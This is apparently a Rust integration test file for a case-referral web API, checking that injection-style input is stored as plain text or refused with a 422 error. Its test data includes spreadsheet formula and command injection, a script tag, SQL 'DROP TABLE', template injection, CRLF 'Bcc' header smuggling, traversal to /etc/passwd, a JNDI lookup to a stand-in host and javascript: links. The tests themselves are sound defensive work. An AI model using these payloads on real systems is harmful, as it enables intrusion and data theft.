//! Texts made to be taken for something else are kept as the text they are, or refused; never an error.

use serde_json::Value;

use crate::ask::{CANARY, assert_refused};
use crate::bodies::{TEXTS, right_for, spoilt};
use crate::ground::{Ground, text};
use crate::support::demo::referral;

/// On one line, and harmless as text.
const HARMLESS: [&str; 12] = [
    "=HYPERLINK(\"http://x.example\",\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "<script>alert(1)</script>",
    "'; DROP TABLE cases; --",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "%0d%0aBcc: everyone@example.test",
    "\\r\\nBcc: everyone@example.test",
    "../../../../etc/passwd",
    "${jndi:ldap://x.example/a}",
    "{\"key\":\"00000000-0000-4000-8000-000000000000\",\"sealed\":\"AAAA\"}",
];

#[tokio::test]
async fn formulas_markup_and_templates_are_kept_as_the_text_they_are() {
    let ground = Ground::new().await;
    for harmless in HARMLESS {
        let mut body = referral(&ground.team);
        body["incidents"][0]["line"] = harmless.into();
        body["incidents"][0]["local_ref"] = harmless[..harmless.len().min(60)].into();
        body["contact_out_of_hours"] = harmless.into();
        let raised = ground.demo.raise(&ground.manager, &body).await.expect(201);
        let path = format!("/api/v1/cases/{}", text(&raised["case"]));
        let case = ground.demo.get(&ground.manager, &path).await;
        assert!(case.header("content-type").starts_with("application/json"));
        let request = &case.expect(200)["request"];
        assert_eq!(request["incidents"][0]["line"], harmless);
        assert_eq!(request["contact_out_of_hours"], harmless);
    }
    let page = ground.demo.get(&ground.manager, "/demo").await;
    assert!(!page.text.contains("<script>alert"), "{}", page.text);
}

#[tokio::test]
async fn a_line_break_in_a_one_line_field_is_refused() {
    let ground = Ground::new().await;
    let before = ground.seen().await;
    for (name, pointer, _, one_line) in TEXTS {
        for line_break in ["\n", "\r", "\r\n", "\t", "\u{2028}", "\u{2029}"] {
            if !one_line {
                continue;
            }
            let text = format!("https://{CANARY}{line_break}Bcc: everyone@example.test");
            let body = spoilt(&right_for(&ground, name), pointer, text.into());
            let answer = ground.ask(ground.ask_for(name, &body)).await;
            assert_refused(
                &answer,
                422,
                "invalid",
                &format!("{name} {pointer} {line_break:?}"),
            );
            assert_eq!(answer.json()["errors"][0]["pointer"], pointer);
        }
    }
    assert_eq!(before, ground.seen().await);
}

#[tokio::test]
async fn a_link_is_https_and_nothing_else() {
    let ground = Ground::new().await;
    let before = ground.seen().await;
    let links = [
        "http://x.example",
        "javascript:alert(1)",
        "data:text/html,x",
        "//x.example",
        "x.example",
        "https://x.example/ y",
        " javascript:https://",
        "HTTPS:/x",
        "https://",
        "https://a\u{a0}b",
        "https://x.example/\"onclick=\"x",
        "https://x.example/<b>",
    ];
    for link in links {
        let body = spoilt(&right_for(&ground, "arrange-session"), "/link", link.into());
        let answer = ground.ask(ground.ask_for("arrange-session", &body)).await;
        assert_refused(&answer, 422, "invalid", link);
        assert_eq!(answer.json()["errors"][0]["pointer"], "/link", "{link}");
    }
    assert_eq!(before, ground.seen().await);
}

#[tokio::test]
async fn a_line_break_in_a_longer_text_is_kept() {
    let ground = Ground::new().await;
    let mut body = referral(&ground.team);
    let two_lines = "Ring the site office\r\nSubject: not a header";
    body["contact_out_of_hours"] = two_lines.into();
    let raised = ground.demo.raise(&ground.manager, &body).await.expect(201);
    let path = format!("/api/v1/cases/{}", text(&raised["case"]));
    let case: Value = ground.demo.get(&ground.manager, &path).await.expect(200);
    assert_eq!(case["request"]["contact_out_of_hours"], two_lines);
}
